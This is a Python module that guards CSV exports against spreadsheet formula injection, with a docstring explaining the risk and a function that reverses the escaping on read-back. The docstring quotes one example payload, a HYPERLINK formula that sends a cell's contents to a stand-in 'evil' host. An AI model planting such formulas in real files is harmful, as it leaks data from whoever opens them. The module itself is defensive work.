"""Cells a spreadsheet program will not run: every CSV the service writes goes through here.

A cell beginning with `=`, `+`, `-`, `@`, a tab, a carriage return (or a NUL) is taken as a
formula by Excel, LibreOffice and Google Sheets when the file is opened: a statement line or an
order id such as `=HYPERLINK("http://evil/?"&A1,"open")` would run on the desk of whoever opens
the report. As OWASP's "CSV Injection" page recommends, such a cell is written with a single
quote in front, which the spreadsheet takes as "this is text" and does not show; the writer's
RFC 4180 quoting then keeps separators and quotes inside the cell. A plain number (`-15.00`,
`+3`) is no formula and stays as it is, so amounts still sum as numbers.

Reading such a file back (a statement that is our own export, or an export the advertiser
neutralised the same way) undoes the quote: `spreadsheet_text` is the exact inverse of
`spreadsheet_safe`. For that, a cell that already begins with quotes before a formula character
(`'=2`) gets one more, as a spreadsheet shows it: only the first quote is hidden. Without the
inverse a click id beginning with `-` (one in 64 of them) came back as `'-…` and matched no lead.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?", re.ASCII)
_QUOTED_FORMULA = re.compile(r"'+[=+\-@\t\r\0]")


def spreadsheet_safe(text: str) -> str:
    """The cell as a spreadsheet should show it: text, never a formula."""
    if text.startswith(_FORMULA_START):
        return text if _PLAIN_NUMBER.fullmatch(text) else "'" + text
    return "'" + text if _QUOTED_FORMULA.match(text) else text


def spreadsheet_text(cell: str) -> str:
    """The text `spreadsheet_safe` wrote as `cell`: a quote before a formula is taken off."""
    return cell[1:] if _QUOTED_FORMULA.match(cell) else cell
